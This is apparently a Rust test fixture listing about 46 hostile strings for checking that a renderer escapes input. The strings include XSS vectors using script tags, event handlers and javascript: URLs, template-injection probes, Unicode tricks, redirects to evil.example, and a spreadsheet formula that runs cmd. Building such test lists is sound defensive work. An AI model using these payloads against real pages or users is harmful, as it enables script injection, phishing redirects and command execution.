//! Texts that try to become something else than text on a page.
//!
//! Each would call `injected(n)`, leave an element with `injected` in its name, or change how its neighbours look.

/// Every text, each for another hole.
pub const PAYLOADS: &[&str] = &[
    "<script>injected(1)</script>",
    "</script><script>injected(2)</script>",
    "<ScRiPt>injected(3)</sCrIpT>",
    "<scr<script>ipt>injected(4)</scr</script>ipt>",
    "<img src=x onerror=injected(5)>",
    "\"><img src=x onerror=injected(6)>",
    "'><img src=x onerror='injected(7)'>",
    "<img/src=x/onerror=injected(8)//",
    "<svg onload=injected(9)>",
    "<svg><script>injected(10)</script></svg>",
    "<svg><animate onbegin=injected(11) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=injected(12)>",
    "<math><mtext></table><mglyph><style><img src=x onerror=injected(13)>",
    "<style>*{display:none}</style><b id=injected14>x</b>",
    "</style><x-injected>15</x-injected>",
    "</title><x-injected>16</x-injected>",
    "</textarea><x-injected>17</x-injected>",
    "</select></option><x-injected>18</x-injected>",
    "</td></tr></table><x-injected>19</x-injected>",
    "--><x-injected>20</x-injected><!--",
    "]]><x-injected>21</x-injected>",
    "\" onmouseover=\"injected(22)\" data-injected=\"1",
    "' onfocus='injected(23)' autofocus data-injected='1",
    "x autofocus onfocus=injected(24) data-injected=1",
    "\" style=\"position:fixed;inset:0;background:red",
    "javascript:injected(26)",
    "jAvAsCrIpT&colon;injected(27)",
    "java\u{9}script:injected(28)",
    "data:text/html,<script>injected(29)</script>",
    "<a href=javascript:injected(30)>x</a>",
    "<iframe srcdoc='<script>parent.injected(31)</script>'></iframe>",
    "<object data=javascript:injected(32)></object>",
    "<base href=//evil.example/><x-injected>33</x-injected>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>35</button></form>",
    "<details open ontoggle=injected(36)>",
    "<b hx-get=/logout hx-trigger=load data-injected=37>x</b>",
    "{{ 7 * 7 }} {% raw %} ${injected(38)} #{injected(38)} <%= injected(38) %>",
    "&lt;script&gt;injected(39)&lt;/script&gt; &#60;x-injected&#62;",
    "\u{202e}injected(40) turned around",
    "\u{2066}isolated and never closed",
    "\u{200b}\u{200d}\u{feff}nearly nothing",
    "+ADw-script+AD4-injected(43)+ADw-/script+AD4-",
    "=cmd|' /C calc'!A0",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}\u{349}\u{35a}\u{32f}\u{31e}\u{320}\u{34d}A\u{36b}\u{357}\u{334}\u{362}\u{335}\u{31c}\u{330}\u{354}L",
    "مرحبا <b class=injected>46</b> שלום",
];

/// Returns a word without a place to break it, as long as wanted.
#[must_use]
pub fn long_word(length: usize) -> String {
    "W".repeat(length)
}
